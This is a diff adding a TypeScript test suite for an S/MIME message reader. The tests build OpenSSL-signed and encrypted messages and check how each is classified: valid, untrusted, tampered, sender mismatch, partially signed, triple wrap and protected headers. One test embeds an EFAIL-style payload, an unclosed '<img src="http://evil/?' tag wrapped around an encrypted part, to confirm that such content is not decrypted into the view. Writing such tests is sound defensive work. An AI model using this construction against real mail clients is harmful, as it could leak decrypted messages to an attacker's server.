@@ -1,0 +1,145 @@
+/**
+ * The reader's view against messages made by OpenSSL: every status of the vocabulary, triple wrap,
+ * EFAIL-style nesting, and protected headers.
+ */
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { openMessage, type OpenReport } from './open.js';
+import { createCertificateValidator } from '../pki/create-validator.js';
+import { softwareKey } from '../software-key.js';
+import { collectBytes, toByteStream } from '../stream-types.js';
+import { certificateDer, pkiBytes, pkiFile, privateKey } from '../../../test/helpers/pki.js';
+
+let work: string;
+before(() => {
+  work = mkdtempSync(join(tmpdir(), 'cachet-open-'));
+});
+after(() => rmSync(work, { recursive: true, force: true }));
+
+const validator = () => createCertificateValidator({ trustAnchors: [pkiBytes('ca.pem')] });
+const BODY = 'Content-Type: text/plain; charset=us-ascii\r\n\r\nThe quarterly figures are attached.\r\n';
+
+function openssl(args: string[], input: string | Buffer): Buffer {
+  const file = join(work, `in-${Math.random().toString(36).slice(2)}`);
+  writeFileSync(file, input);
+  return execFileSync('openssl', ['cms', ...args, '-in', file], { stdio: ['ignore', 'pipe', 'pipe'] });
+}
+
+function sign(name: string, entity: string | Buffer, opaque = false): Buffer {
+  return openssl(['-sign', '-signer', pkiFile(`${name}.pem`), '-inkey', pkiFile(`${name}.key`), '-md', 'sha256', ...(opaque ? ['-nodetach'] : [])], entity);
+}
+
+function encrypt(name: string, entity: string | Buffer): Buffer {
+  return openssl(['-encrypt', '-aes-256-cbc', '-recip', pkiFile(`${name}.pem`)], entity);
+}
+
+function withHeaders(from: string, message: Buffer, subject = 'Figures'): Buffer {
+  return Buffer.concat([Buffer.from(`From: ${from}\r\nTo: bob@example.com\r\nSubject: ${subject}\r\n`), message]);
+}
+
+async function open(message: Buffer, opts: { trust?: boolean; key?: string } = {}): Promise<{ report: OpenReport; content: string }> {
+  const result = await openMessage(toByteStream(message), {
+    decryptors: opts.key ? [{ certificate: certificateDer(opts.key), key: softwareKey(privateKey(opts.key)) }] : [],
+    ...(opts.trust === false ? {} : { validator: validator() }),
+  });
+  try {
+    return { report: result.report, content: (await collectBytes(result.content)).toString('utf8') };
+  } finally {
+    await result.dispose();
+  }
+}
+
+test('valid: signed by the From address, trusted — detached and opaque', async () => {
+  for (const opaque of [false, true]) {
+    const { report, content } = await open(withHeaders('Alice <alice@example.com>', sign('alice', BODY, opaque)));
+    assert.equal(report.status, 'valid');
+    assert.equal(report.encrypted, false);
+    assert.deepEqual(report.from, ['alice@example.com']);
+    assert.equal(report.signers[0]?.email[0], 'alice@example.com');
+    assert.match(content, /quarterly figures/);
+  }
+});
+
+test('untrusted: no trust anchors, or a CA nobody trusts (eve claims to be alice)', async () => {
+  assert.equal((await open(withHeaders('alice@example.com', sign('alice', BODY)), { trust: false })).report.status, 'untrusted');
+  const eve = await open(withHeaders('alice@example.com', sign('eve', BODY)));
+  assert.equal(eve.report.status, 'untrusted');
+  assert.match(eve.report.signers[0]?.error?.message ?? '', /Bars Root CA/);
+});
+
+test('invalid: one byte of the signed text changed', async () => {
+  const signed = withHeaders('alice@example.com', sign('alice', BODY)).toString('latin1').replace('quarterly', 'quarterlY');
+  assert.equal((await open(Buffer.from(signed, 'latin1'))).report.status, 'invalid');
+});
+
+test('mismatch: valid and trusted, but the From address is someone else', async () => {
+  assert.equal((await open(withHeaders('carol@example.com', sign('alice', BODY)))).report.status, 'mismatch');
+  assert.equal((await open(withHeaders('alice@example.com, carol@example.com', sign('alice', BODY)))).report.status, 'mismatch');
+});
+
+test('partially-signed: a signed part inside unsigned content with a footer added', async () => {
+  const signedPart = sign('alice', BODY).toString('latin1');
+  const mixed = [
+    'From: alice@example.com',
+    'Subject: list mail',
+    'MIME-Version: 1.0',
+    'Content-Type: multipart/mixed; boundary="outer"',
+    '',
+    '--outer',
+    signedPart.trimEnd(),
+    '--outer',
+    'Content-Type: text/plain',
+    '',
+    'Unsubscribe: click here. Also, wire the money to account 123.',
+    '--outer--',
+    '',
+  ].join('\r\n');
+  const { report } = await open(Buffer.from(mixed, 'latin1'));
+  assert.equal(report.status, 'partially-signed');
+  assert.equal(report.signedParts.length, 1);
+  assert.equal(report.signedParts[0]?.valid, true);
+  assert.deepEqual(report.unsignedParts, ['2']);
+  assert.equal(report.valid, null);
+});
+
+test('encrypted only: not-signed, encrypted, decrypted content released', async () => {
+  const { report, content } = await open(withHeaders('alice@example.com', encrypt('bob', BODY)), { key: 'bob' });
+  assert.equal(report.status, 'not-signed');
+  assert.equal(report.encrypted, true);
+  assert.equal(report.layers[0]?.kind, 'encrypted');
+  assert.match(content, /quarterly figures/);
+});
+
+test('triple wrap: signed, encrypted, signed — valid and encrypted, three layers', async () => {
+  const inner = sign('alice', BODY);
+  const encrypted = encrypt('bob', inner);
+  const outer = sign('alice', encrypted);
+  const { report, content } = await open(withHeaders('alice@example.com', outer), { key: 'bob' });
+  assert.deepEqual(report.layers.map((l) => l.kind), ['signed', 'encrypted', 'signed']);
+  assert.equal(report.status, 'valid');
+  assert.equal(report.encrypted, true);
+  assert.match(content, /quarterly figures/);
+});
+
+test('EFAIL: an encrypted part inside unencrypted content is not decrypted into the view', async () => {
+  const encryptedPart = encrypt('bob', BODY).toString('latin1');
+  const mixed = ['From: mallory@example.com', 'Content-Type: multipart/mixed; boundary="x"', '', '--x', 'Content-Type: text/html', '', '<img src="http://evil/?', '--x', encryptedPart.trimEnd(), '--x--', ''].join('\r\n');
+  const { report, content } = await open(Buffer.from(mixed, 'latin1'), { key: 'bob' });
+  assert.equal(report.encrypted, false);
+  assert.equal(report.status, 'not-signed');
+  assert.doesNotMatch(content, /quarterly figures/);
+  assert.ok(report.warnings.some((w) => /not decrypted/.test(w)));
+});
+
+test('protected headers: the signed Subject wins and the difference is reported', async () => {
+  const entity = `Subject: The real subject\r\nFrom: alice@example.com\r\n${BODY}`;
+  const { report } = await open(withHeaders('alice@example.com', sign('alice', entity), 'Tampered outer subject'));
+  assert.equal(report.status, 'valid');
+  assert.equal(report.headers.protected, true);
+  assert.equal(report.headers.subject, 'The real subject');
+  assert.deepEqual(report.headers.differences.map((d) => d.field), ['subject']);
+});
